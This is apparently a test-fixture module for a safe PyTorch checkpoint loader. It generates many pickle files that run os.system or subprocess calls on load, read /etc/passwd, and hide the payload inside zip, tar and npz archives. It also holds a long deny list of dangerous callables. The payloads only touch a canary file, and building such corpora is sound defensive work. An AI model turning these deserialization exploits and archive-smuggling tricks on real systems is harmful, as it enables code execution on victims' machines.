"""Files that run code when they are unpickled: many ways to ask for it, and many places to hide it.

Each payload, if it ran, would make a file: the canary.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


@dataclass(frozen=True)
class Attack:
    """A hostile file.

    Attributes:
        name: What it tries.
        content: The file.
        named: What the refusal has to name.
    """

    name: str
    content: bytes
    named: str


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def global_of(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, argument: str) -> bytes:
    """A whole pickle of protocol 2 that calls something with one text."""
    return b"\x80\x02" + global_of(module, name) + text(argument) + b"\x85R."


def command(canary: Path) -> str:
    return f"touch {canary}"


def opcodes(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield ways to call `os.system` in the opcodes of a pickle."""
    run = command(canary)
    os_system = global_of("os", "system")
    yield "reduce, protocol 0", b"cos\nsystem\n(S'%b'\ntR." % run.encode()
    yield "reduce, protocol 1", b"cos\nsystem\n(" + text(run) + b"tR."
    for protocol in range(2, 6):
        yield f"reduce, protocol {protocol}", bytes([0x80, protocol]) + os_system + text(run) + b"\x85R."
    yield "stack global", b"\x80\x04" + short("os") + short("system") + b"\x93" + short(run) + b"\x85R."
    yield (
        "framed",
        b"\x80\x04\x95" + struct.pack("<Q", 8) + short("os") + short("system") + b"\x93" + short(run) + b"\x85R.",
    )
    yield "inst", b"(" + text(run) + b"ios\nsystem\n."
    yield "obj", b"(" + os_system + text(run) + b"o."
    yield "new object", b"\x80\x02" + global_of("subprocess", "Popen") + text(run) + b"\x85\x81."
    yield "new object with names", b"\x80\x04" + global_of("subprocess", "Popen") + text(run) + b"\x85}\x92."
    yield (
        "name in the memo",
        (
            b"\x80\x04"
            + short("os")
            + b"\x940"
            + short("system")
            + b"\x940"
            + b"h\x00h\x01\x93"
            + short(run)
            + b"\x85R."
        ),
    )
    confused = short("torch._utils") + b"\x94" + short("_rebuild_tensor_v2") + b"\x94"
    end = text(run) + b"\x85R."
    hidden = b"\x80\x04" + text("os") + b"q\x000" + text("system") + b"q\x010"
    yield "memo confused", hidden + confused + b"00h\x00h\x01\x93" + end
    overwritten = b"\x80\x02" + text("collections") + b"q\x000" + text("os") + b"q\x000" + text("system") + b"q\x010"
    yield "memo overwritten", overwritten + b"h\x00h\x01\x93" + end
    yield "old text", b"\x80\x02U\x02osU\x06system\x93" + text(run) + b"\x85R."
    yield "called and thrown away", os_system + text(run) + b"\x85R0}."
    yield "called in a key", b"}" + os_system + text(run) + b"\x85RNs."
    yield "called, then broken", os_system + text(run) + b"\x85R\xff\xff\xff"
    yield "called, then the end", os_system + text(run) + b"\x85R"
    yield "called, then an empty stack", os_system + text(run) + b"\x85R00000."
    yield "named, never called", os_system + b"0}."
    yield "state of a class", global_of("os", "_wrap_close") + b"}" + text("x") + text(run) + b"sb."
    yield (
        "getattr",
        (
            global_of("builtins", "getattr")
            + b"("
            + global_of("os", "path")
            + text("os")
            + b"tR"
            + text(run)
            + b"\x85R."
        ),
    )
    yield "second pickle", b"\x80\x02}." + call("os", "system", run)
    yield "third pickle", b"\x80\x02}.\x80\x02]." + call("os", "system", run)
    yield "second pickle after junk in the first", b"\x80\x02K\x01." + b"cos\nsystem\n" + text(run) + b"\x85R."


def made(maker: bytes, *arguments: bytes) -> bytes:
    """Opcodes that call what `maker` pushes."""
    return maker + b"(" + b"".join(arguments) + b"tR"


def attribute(owner: bytes, name: str, spelling: str = "builtins") -> bytes:
    """Opcodes of `getattr(owner, name)`."""
    return made(global_of(spelling, "getattr"), owner, text(name))


def kinds(canary: Path) -> Iterator[tuple[str, str, bytes]]:
    """Yield what is tried (what it is, what has to be named, opcodes) with the kinds of values that are taken."""
    system, run = global_of("os", "system"), text(command(canary))
    act = made(system, run)
    none, pair = b"N", b"\x86"
    state = b"(" + system + run + b"\x85}Ntb"
    package = global_of("package", "Config")
    yield "partial", "os.system", made(global_of("functools", "partial"), system)
    yield (
        "partial with a state",
        "os.system",
        made(global_of("functools", "partial"), global_of("builtins", "int")) + state,
    )
    yield "partial of a call", "os.system", made(global_of("functools", "partial"), act)
    yield "partial of an object", "functools.partial", made(global_of("functools", "partial"), made(package))
    yield "partial of nothing", "functools.partial", made(global_of("functools", "partial"))
    yield "partial that is called", "functools.partial", made(made(global_of("functools", "partial"), package), run)
    yield "new partial", "functools.partial", global_of("functools", "partial") + run + b"\x85\x81"
    torch_os = global_of("torch", "os")
    yield "attribute of a module", "torch.os.system", made(attribute(torch_os, "system"), run)
    yield "attribute, Python 2", "torch.os.system", made(attribute(torch_os, "system", "__builtin__"), run)
    yield "attribute of a package", "package.os.system", made(attribute(global_of("package", "os"), "system"), run)
    yield "dunder", "getattr", attribute(package, "__globals__")
    yield "dunder that is called", "getattr", made(attribute(package, "__init__"), run)
    yield "dunder behind a class", "getattr", attribute(attribute(package, "method"), "__globals__")
    yield "dotted attribute", "getattr", attribute(package, "method.__globals__")
    yield "attribute that is none", "getattr", attribute(package, "a b")
    yield "attribute of an object", "getattr", attribute(made(package), "method")
    yield "attribute of a call", "os.system", attribute(act, "method")
    yield "attribute of text", "getattr", attribute(text("{0.__class__}"), "format")
    yield "attribute or a default", "getattr", made(global_of("builtins", "getattr"), package, text("a"), none)
    yield "name of an attribute that is called", "os.system", made(global_of("builtins", "getattr"), package, act)
    yield "class that is made", "builtins.type", made(global_of("builtins", "type"), text("X"), b")", b"}")
    yield "type of an object", "builtins.type", made(global_of("builtins", "type"), made(package))
    yield "type of a name", "builtins.type", made(global_of("builtins", "type"), package)
    getitem = global_of("_operator", "getitem")
    yield "item of the environment", "os.environ", made(getitem, global_of("os", "environ"), text("PATH"))
    yield "item of a package", "_operator.getitem", made(getitem, global_of("package", "registry"), text("x"))
    yield "item of an object", "_operator.getitem", made(getitem, made(package), text("x"))
    yield (
        "hint with a call in it",
        "os.system",
        made(getitem, global_of("typing", "Annotated"), global_of("builtins", "int") + act + pair),
    )
    yield (
        "hint that is evaluated",
        "typing.ForwardRef",
        made(global_of("typing", "ForwardRef"), text("__import__('os')")),
    )
    yield "hints that are evaluated", "typing.get_type_hints", made(global_of("typing", "get_type_hints"), package)
    yield "hint that is called", "typing.List", made(global_of("typing", "List"), run)
    reduce = global_of("__builtin__", "reduce")
    yield "reduce", "os.system", made(reduce, system, b"]" + run + b"a")
    yield "reduce of calls", "os.system", made(reduce, global_of("_operator", "or_"), act + b"\x85")
    yield "reduce of objects", "reduce", made(reduce, global_of("_operator", "or_"), made(package) + b"\x85")
    yield "union of a call", "os.system", made(global_of("types", "UnionType"), act + b"\x85")
    yield "method caller", "operator.methodcaller", made(global_of("operator", "methodcaller"), text("system"), run)
    yield "map", "builtins.map", made(global_of("builtins", "map"), system, b"]" + run + b"a")
    yield "map, Python 2", "itertools.imap", made(global_of("itertools", "imap"), system, b"]" + run + b"a")
    yield "star map", "itertools.starmap", made(global_of("itertools", "starmap"), system, b"]" + run + b"\x85a")
    yield "iterator that calls", "os.popen", made(global_of("builtins", "iter"), global_of("os", "popen"), none)
    yield "member of a call", "os.system", made(global_of("signal", "Signals"), act)
    yield "exception of a call", "os.system", made(global_of("exceptions", "ValueError"), act)
    yield (
        "exception with a hook",
        "os.system",
        made(global_of("builtins", "ValueError")) + b"}" + text("f") + system + b"sb",
    )
    yield "row of a call", "os.system", made(global_of("time", "struct_time"), act + b"\x85")
    yield "pattern of a call", "os.system", made(global_of("re", "_compile"), act, b"K\x00")
    yield "pattern that evaluates", "re.Scanner", made(global_of("re", "Scanner"), b"]")
    yield "logger of a call", "os.system", made(global_of("logging", "getLogger"), act)
    yield "logger to a file", "logging.FileHandler", made(global_of("logging", "FileHandler"), text(str(canary)))
    yield "buffer of a call", "os.system", made(global_of("_io", "BytesIO"), act)
    yield "buffer on disk", "tempfile.SpooledTemporaryFile", made(global_of("tempfile", "SpooledTemporaryFile"))
    yield (
        "reader of a file",
        "io.BufferedReader",
        made(global_of("io", "BufferedReader"), made(global_of("io", "FileIO"), text("/etc/passwd"))),
    )
    yield "array of a call", "os.system", made(global_of("array", "array"), text("b"), act)
    yield "zone from a file", "zoneinfo.ZoneInfo", made(global_of("zoneinfo", "ZoneInfo"), text("../../etc/passwd"))
    yield (
        "zone of a file",
        "zoneinfo.ZoneInfo.from_file",
        made(attribute(global_of("zoneinfo", "ZoneInfo"), "from_file"), act),
    )
    yield "tensor from a file", "from_file", attribute(global_of("torch._C", "_VariableFunctionsClass"), "from_file")
    yield (
        "function of tensors that is called",
        "relu",
        made(attribute(global_of("torch._C", "_VariableFunctionsClass"), "relu"), run),
    )
    yield "function that is called", "builtins.len", made(global_of("builtins", "len"), run)
    yield (
        "records with a call",
        "os.system",
        made(global_of("numpy", "dtype"), text("V1")) + b"(K\x03" + act + b"NNNK\x01K\x01K\x00tb",
    )
    yield "mapped file", "numpy.memmap", made(global_of("numpy", "memmap"), text("/etc/passwd"))
    yield "masked by a call", "os.system", made(global_of("numpy.ma.core", "_mareconstruct"), act)
    yield "function from Python", "numpy.frompyfunc", made(global_of("numpy", "frompyfunc"), system, b"K\x01K\x01")
    yield "default of a dict", "os.system", made(global_of("collections", "defaultdict"), system)
    yield "name of Python 2", "__builtin__.execfile", made(global_of("__builtin__", "execfile"), run)
    yield "module of Python 2", "commands.getoutput", made(global_of("commands", "getoutput"), run)
    yield "pickle of Python 2", "cPickle.loads", made(global_of("cPickle", "loads"), run)
    yield "fetch of Python 2", "urllib.urlopen", made(global_of("urllib", "urlopen"), run)
    yield "name behind another", "_io.open", made(global_of("_io", "open"), text("/etc/passwd"))
    yield "system behind another", "posix.system", made(global_of("posix", "system"), run)


NAMES = """
builtins.eval builtins.exec builtins.compile builtins.open builtins.getattr builtins.__import__ builtins.breakpoint
builtins.globals builtins.map builtins.type builtins.vars builtins.input __builtin__.eval __builtin__.execfile
__builtin__.apply __builtin__.file exceptions.eval os.system os.popen os.execv os.remove posix.system nt.system
subprocess.Popen subprocess.check_output commands.getoutput popen2.popen3 pty.spawn shutil.rmtree sys.exit
sys.modules webbrowser.open socket.socket socket.create_connection urllib.request.urlopen
http.client.HTTPSConnection ftplib.FTP smtplib.SMTP telnetlib.Telnet imaplib.IMAP4_stream ssl.get_server_certificate
pickle.loads pickle.Unpickler _pickle.loads marshal.loads shelve.open copyreg.add_extension importlib.import_module
importlib.machinery.SourceFileLoader imp.load_source runpy.run_path pkgutil.resolve_name zipimport.zipimporter
code.interact code.InteractiveInterpreter codeop.compile operator.attrgetter operator.methodcaller functools.partial
functools.reduce types.CodeType types.FunctionType ctypes.CDLL _ctypes.dlopen cffi.FFI
asyncio.create_subprocess_shell multiprocessing.Process multiprocessing.util.spawnv_passfds threading.Thread
_thread.start_new concurrent.futures.ThreadPoolExecutor signal.signal atexit.register timeit.timeit cProfile.run
profile.Profile.run bdb.Bdb.run pdb.run trace.Trace.run doctest.debug_script venv.create ensurepip._run_pip
ensurepip.bootstrap pip.main pip._internal.main setuptools.setup setuptools._distutils.spawn.spawn
pkg_resources.load_entry_point uv.find_uv_bin poetry.console.main pdm.core.main distlib.scripts.ScriptMaker
distutils.spawn.spawn idlelib.pyshell.ModifiedInterpreter.runcode
idlelib.run.Executive.runcode lib2to3.pgen2.pgen logging.FileHandler logging.config.fileConfig io.FileIO io.open
_io.open tempfile.NamedTemporaryFile pathlib.Path.write_text pathlib.os.system pathlib.PosixPath.unlink
uuid._get_command_stdout _aix_support._read_cmd_output _osx_support._read_output _pyrepl.pager.pipe_pager
mailcap.findmatch test.support.script_helper.assert_python_ok unittest.main gc.get_objects inspect.getsource
collections.abc.Callable collections.namedtuple collections.OrderedDict.__init__ datetime.sys
argparse.ArgumentParser argparse.Namespace.__init__.__globals__ decimal.os fractions.operator _codecs.decode
codecs.open codecs.lookup base64.b64decode zlib.decompress weakref.ref torch.load torch.save torch.hub.load
torch.jit.load torch.ops.load_library torch.compile torch.storage._load_from_bytes torch.serialization.load
torch._C._jit_pass_inline torch.classes torch._utils._import_dotted_name torch.fx.graph_module.reduce_graph_module
torch.package.PackageImporter torch._dynamo.guards.GuardBuilder.get torch._inductor.codecache.compile_file
torch.os.system torch.utils.bottleneck.__main__.run_cprofile torch.utils.cpp_extension.load
torch.utils.data.DataLoader torch.utils._config_module.load_config torch.utils.collect_env.run
torch.distributed.init_process_group torch.nn.functional.os torch.nn.os.system torch.nn.Module.apply torch.optim.sys
functorch.make_fx torch.nn.modules.module.torch torch.nn.init.eval torch.optim.Optimizer.step
caffe2.python.workspace torch.testing._internal.common_utils.run_tests torch.multiprocessing.spawn
torch.__builtins__ numpy.load numpy.save numpy.fromfile numpy.f2py.compile numpy.f2py.crackfortran.getlincoef
numpy.testing._private.utils.runstring numpy.distutils.exec_command.exec_command numpy.os.system
numpy.core.multiarray.fromfile numpy.memmap numpy.vectorize numpy.random.bit_generator.ISeedSequence
numpy.ctypeslib.load_library numpy.ndarray.tofile numpy.dtype.__class__ ml_dtypes.os dill._dill._create_function
cloudpickle.loads joblib.load jsonpickle.decode IPython.get_ipython requests.get aiohttp.ClientSession httpx.get
urllib3.PoolManager pexpect.run psutil.Popen somepackage.os.system somepackage.subprocess.Popen
somepackage.utils.eval __main__.exec __main__.__builtins__.eval __main__.__dict__ mymodule.__loader__.load_module
""".split()
"""Names that no checkpoint needs: of Python, PyTorch, NumPy, installers, and of what runs code or fetches it."""


def zip_of(pickled: bytes, members: dict[str, bytes] | None = None, root: str = "archive", method: int = 0) -> bytes:
    """Return an archive as `torch.save` makes it."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method) as archive:
        archive.writestr(f"{root}/data.pkl", pickled)
        for name, data in {"version": b"3\n", "byteorder": b"little", **(members or {})}.items():
            archive.writestr(f"{root}/{name}", data)
    return content.getvalue()


def stream_of(*, slots: dict[int, bytes] | None = None, tail: bytes = b"") -> bytes:
    """Return a file of the older form: magic number, protocol, system, content, keys of the storages."""
    pickles = [
        pickle.dumps(MAGIC_NUMBER, 2),
        pickle.dumps(1001, 2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, 2),
        pickle.dumps({"epoch": 1}, 2),
        pickle.dumps([], 2),
    ]
    for slot, content in (slots or {}).items():
        pickles[slot] = content
    return b"".join(pickles) + tail


GOOD = pickle.dumps({"epoch": 1}, 2)


def tar_of(members: dict[str, bytes]) -> bytes:
    """Return an archive as the oldest `torch.save` made it."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return content.getvalue()


NOTHING = pickle.dumps(0, 2)
TAR_PARTS = {"storages": NOTHING + pickle.dumps([], 2), "tensors": NOTHING, "pickle": GOOD}

Hide = Callable[[bytes], bytes]


def places(evil: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield files in which a pickle stands in many places."""
    yield "alone", evil
    yield "zip", zip_of(evil)
    yield "zip, deflated", zip_of(evil, method=zipfile.ZIP_DEFLATED)
    yield "zip, behind the content", zip_of(GOOD + evil)
    yield "zip, behind the content and junk", zip_of(GOOD + GOOD + evil)
    for name in (
        "constants.pkl",
        "extra.pkl",
        "data/0",
        "data/notes.txt",
        "notes",
        "code/__torch__.py",
        "version.pickle",
    ):
        yield f"zip, as {name}", zip_of(GOOD, {name: evil})
    for slot, what in enumerate(["magic", "protocol", "system", "content", "keys"]):
        yield f"stream, as {what}", stream_of(slots={slot: evil})
    yield "stream, behind the storages", stream_of(tail=evil)
    yield "plain pickle, behind the content", GOOD + evil
    yield "zip without a directory", _flat_zip(evil)
    yield "zip with two roots", _with_member(zip_of(GOOD), "other/data.pkl", evil)
    yield "zip with the member twice", _with_member(zip_of(GOOD), "archive/data.pkl", evil)
    yield "zip with the member twice, in another case", _with_member(zip_of(GOOD), "archive/DATA.PKL", evil)
    yield "zip with a name that leads out", _with_member(zip_of(GOOD), "archive/../../data.pkl", evil)
    yield "zip with an absolute name", _with_member(zip_of(GOOD), "/archive/data.pkl", evil)
    yield "zip with junk before", _with_prefix(zip_of(evil))
    yield "zip with a wrong checksum", _with_wrong_checksum(zip_of(evil))
    yield "zip with another name in the directory", _renamed_in_directory(zip_of(GOOD, {"safe": evil}))
    for flag in (0x1, 0x20, 0x40, 0x2000):
        yield f"zip with flag {flag:#x}", _with_flag(zip_of(evil), flag)
    yield "zip cut before its directory", zip_of(evil)[:-60]
    yield "arrays with a pickle among them", _npz_with(evil)
    yield "tar, behind its end", tar_of(TAR_PARTS) + tar_of({"pickle": evil})
    yield "tar, behind its end and more", tar_of(TAR_PARTS) + bytes(5000) + evil


def _flat_zip(evil: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("data.pkl", evil)
        archive.writestr("version", b"3\n")
    return content.getvalue()


def _npz_with(evil: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(
            "a.npy",
            b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (0,), }".ljust(117) + b"\n",
        )
        archive.writestr("archive/data.pkl", evil)
    return content.getvalue()


def _with_member(content: bytes, name: str, data: bytes) -> bytes:
    buffer = io.BytesIO(content)
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def _with_prefix(content: bytes) -> bytes:
    return b"PK\x03\x04" + bytes(60) + content


def _with_wrong_checksum(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        crc = struct.pack("<I", archive.infolist()[0].CRC)
    return content.replace(crc, b"\x01\x02\x03\x04")


def _renamed_in_directory(content: bytes) -> bytes:
    at = content.rindex(b"archive/safe")
    return content[:at] + b"archive/code" + content[at + 12 :]


def _with_flag(content: bytes, flag: int) -> bytes:
    """Set a flag of the first member, in its own header and in the directory."""
    data = bytearray(content)
    central = data.index(b"PK\x01\x02")
    for at in (6, central + 8):
        (flags,) = struct.unpack_from("<H", data, at)
        struct.pack_into("<H", data, at, flags | flag)
    return bytes(data)


def attacks(canary: Path) -> list[Attack]:
    """Return all hostile files."""
    found = [Attack(f"opcodes: {name}", content, "") for name, content in opcodes(canary)]
    found += [Attack(f"opcodes in a zip: {name}", zip_of(content), "") for name, content in opcodes(canary)]
    for name, named, opcodes_ in kinds(canary):
        found.append(Attack(f"kind: {name}", b"\x80\x02" + opcodes_ + b".", named))
        found.append(Attack(f"kind in a zip: {name}", zip_of(b"\x80\x04}" + text("a") + opcodes_ + b"s."), named))
    evil = call("os", "system", command(canary))
    found += [Attack(f"place: {name}", content, "os.system") for name, content in places(evil)]
    for name in NAMES:
        module, _, attribute = name.rpartition(".")
        found.append(Attack(f"name: {name}", zip_of(call(module, attribute, "x")), name))
        found.append(
            Attack(f"name by stack: {name}", b"\x80\x04" + short(module) + short(attribute) + b"\x93)R.", name)
        )
        top, _, rest = name.partition(".")
        if "." in rest:
            found.append(Attack(f"dotted name: {name}", b"\x80\x04" + short(top) + short(rest) + b"\x93)R.", name))
    return found
